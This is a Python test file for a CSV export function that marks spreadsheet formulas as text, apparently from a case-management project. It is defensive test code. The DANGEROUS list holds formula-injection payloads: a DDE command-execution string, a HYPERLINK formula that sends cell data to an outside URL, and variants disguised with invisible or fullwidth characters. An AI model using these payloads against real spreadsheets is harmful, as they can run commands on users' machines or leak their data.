"""What is written as CSV is read back as text by spreadsheet programs, and never runs."""

import csv
import io
import unicodedata

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from smadvisor.caselist.sheet import sheets
from smadvisor.spreadsheet import safe, write_csv

DANGEROUS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?"&A1)',
    "+44 7700 900123",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\N{NO-BREAK SPACE}=1",
    "\N{ZERO WIDTH SPACE}=1",
    "\N{RIGHT-TO-LEFT OVERRIDE}=1",
    "\ufeff=1",
    "\0=1",
    "\N{FULLWIDTH EQUALS SIGN}1",
    "\N{FULLWIDTH PLUS SIGN}1",
    "\N{FULLWIDTH HYPHEN-MINUS}1",
    "\N{FULLWIDTH COMMERCIAL AT}A",
    "\N{SMALL EQUALS SIGN}1",
    "\N{MINUS SIGN}1",
)
PLAIN = (
    "",
    "-5",
    "+3.50",
    "-12,5%",
    "2026-11-23",
    "PRYCE, Siân",
    "'=1",
    "O'Hare",
    "1-2",
    "a=b",
    "–",
)


@pytest.mark.parametrize("cell", DANGEROUS)
def test_a_formula_is_marked_as_text(cell: str) -> None:
    assert safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", PLAIN)
def test_all_else_stays(cell: str) -> None:
    assert safe(cell) == cell


@given(st.text())
def test_no_cell_begins_like_a_formula(cell: str) -> None:
    told = safe(cell)
    seen = "".join(letter for letter in told if unicodedata.category(letter)[0] not in "ZC")
    number = told.strip("+-0123456789.,%") == ""
    assert number or not seen.startswith(("=", "+", "-", "@"))
    assert told.removeprefix("'") == cell.removeprefix("'")
    assert safe(told) == told, "written out twice, it is not marked twice"


@given(st.lists(st.lists(st.text(), min_size=2, max_size=2), max_size=5))
def test_a_table_has_the_cells_it_was_given(rows: list[list[str]]) -> None:
    data = write_csv(["one", "two"], rows)
    read = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    kept = [[safe(cell).encode(errors="replace").decode() for cell in row] for row in rows]
    assert read == [["one", "two"], *kept]


def test_its_bytes_are_what_spreadsheet_programs_expect() -> None:
    assert write_csv(["a", "b"], [[None, -1]]) == b'\xef\xbb\xbf"a","b"\r\n"","-1"\r\n'


def test_no_program_that_opens_it_finds_a_formula() -> None:
    """Through CSV into a workbook and out again: each cell is still text."""
    (sheet,) = sheets(write_csv(["URN", "Victim"], [["1", cell] for cell in DANGEROUS]))[0]
    book = openpyxl.Workbook()
    for row in csv.reader(io.StringIO(write_csv(["a"], [[c] for c in DANGEROUS[:6]]).decode())):
        book.active.append(row)
    assert {cell.data_type for (cell,) in book.active.iter_rows()} == {"s"}
    assert not [row for row in sheet.rows if row[1].startswith(("=", "+", "-", "@"))]
